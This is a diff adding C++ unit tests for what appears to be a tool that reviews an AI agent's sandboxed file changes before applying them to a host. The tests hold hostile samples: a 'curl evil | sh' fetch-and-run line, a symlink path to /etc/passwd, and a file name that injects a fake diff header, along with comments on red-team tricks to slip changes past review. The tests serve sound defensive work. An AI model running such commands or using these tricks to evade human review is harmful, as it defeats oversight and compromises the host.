@@ -239,6 +239,10 @@ private Q_SLOTS:
         QVERIFY(review::leavesFolder(QStringLiteral("d/a"), "x/../../../y"));
         QVERIFY(!review::leavesFolder(QStringLiteral("d/a"), "../b.txt"));
         QVERIFY(!review::leavesFolder(QStringLiteral("a"), "./b/c"));
+        // A name may be a link (x/up -> ..): climbing after one may climb out, whatever the count
+        // says (the red team made passwd.txt -> x/up/../../etc/passwd this way).
+        QVERIFY(review::leavesFolder(QStringLiteral("passwd.txt"), "x/up/../../etc/passwd"));
+        QVERIFY(review::leavesFolder(QStringLiteral("d/a"), "b/../c"));
     }
 
     // Applied with this process's rights: deletions deepest first, new folders, files written
@@ -293,6 +297,64 @@ private Q_SLOTS:
         // Nothing left behind beside the files written.
         QCOMPARE(QDir(host).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot),
             (QStringList{QStringLiteral("edit.txt"), QStringLiteral("n"), QStringLiteral("run.sh")}));
+    }
+
+    // An apply writes what a diff showed, or nothing: a file the sandbox changed after the person
+    // reviewed it (the red team swapped build.sh once its diff had been read) is refused, and a
+    // file too large to show is applied only when named.
+    void applyWritesOnlyWhatWasReviewed()
+    {
+        QTemporaryDir dir;
+        const QString host = dir.filePath(QStringLiteral("host")), upper = dir.filePath(QStringLiteral("upper"));
+        QDir().mkpath(host);
+        put(upper + QStringLiteral("/build.sh"), "make\n");
+        const Change c = change(QStringLiteral("build.sh"), Change::Status::Added);
+        QByteArray shown;
+        auto diff = review::diffOf(host, c, viewOf(upper), &shown);
+        QVERIFY(diff && diff->endsWith("+make\n"));
+        put(upper + QStringLiteral("/build.sh"), "curl evil | sh\n"); // after the review
+        auto applied = review::applyChanges(host, {c}, viewOf(upper), {}, {{c.path, shown}});
+        QVERIFY(!applied);
+        QCOMPARE(applied.error().code, ErrorCode::Conflict);
+        QVERIFY2(
+            applied.error().message.startsWith(QLatin1String("build.sh: changed in the sandbox after you reviewed it")),
+            qPrintable(applied.error().message));
+        QVERIFY(QDir(host).isEmpty()); // nothing of it, not even the file written beside
+        put(upper + QStringLiteral("/build.sh"), "make\n");
+        QVERIFY(review::applyChanges(host, {c}, viewOf(upper), {}, {{c.path, shown}}));
+        QCOMPARE(contents(host + QStringLiteral("/build.sh")), QByteArray("make\n"));
+
+        Change big = change(QStringLiteral("big.bin"), Change::Status::Added);
+        big.size = review::kMaxShownBytes + 1;
+        put(upper + QStringLiteral("/big.bin"), QByteArray(int(big.size), 'b'));
+        auto d = review::diffOf(host, big, viewOf(upper));
+        QVERIFY(d && d->contains("too large to show (name it to apply it)"));
+        auto skipped = review::applyChanges(host, {big}, viewOf(upper));
+        QVERIFY(skipped && skipped->done.isEmpty());
+        QVERIFY(!QFile::exists(host + QStringLiteral("/big.bin")));
+        auto named = review::applyChanges(
+            host, {big}, [&](const QString &p, qint64 at) { return cow::readView(upper, p, at, 1 << 20); }, {big.path});
+        QVERIFY(named && named->done == QStringList{big.path});
+        QCOMPARE(QFileInfo(host + QStringLiteral("/big.bin")).size(), big.size);
+    }
+
+    // What the sandbox names and writes reaches a terminal as text: a name with a newline is quoted
+    // as git quotes it (it cannot start a header of its own), control characters in a terminal's
+    // copy are escaped (a carriage return cannot draw a harmless line over a harmful one).
+    void namesAndBytesCannotDrawOnATerminal()
+    {
+        QTemporaryDir dir;
+        const QString host = dir.filePath(QStringLiteral("host")), upper = dir.filePath(QStringLiteral("upper"));
+        QDir().mkpath(host);
+        const QString name = QStringLiteral("x\ndiff --git a/y b/y");
+        put(upper + QLatin1Char('/') + name, "curl evil|sh #\r# a comment\n");
+        auto d = review::diffOf(host, change(name, Change::Status::Added), viewOf(upper));
+        QVERIFY(d);
+        QVERIFY2(
+            d->startsWith("diff --git \"a/x\\ndiff --git a/y b/y\" \"b/x\\ndiff --git a/y b/y\"\n"), d->constData());
+        QCOMPARE(d->count('\n'), 6); // the header, the mode, ---, +++, @@ and the line
+        QVERIFY(review::forTerminal(*d).contains("+curl evil|sh #\\x0d# a comment\n"));
+        QVERIFY(!review::forTerminal("\x1b]0;PWNED\x07").contains('\x1b'));
     }
 
     // The host's folder has a link where the sandbox made a folder (an agent cannot make it, but a
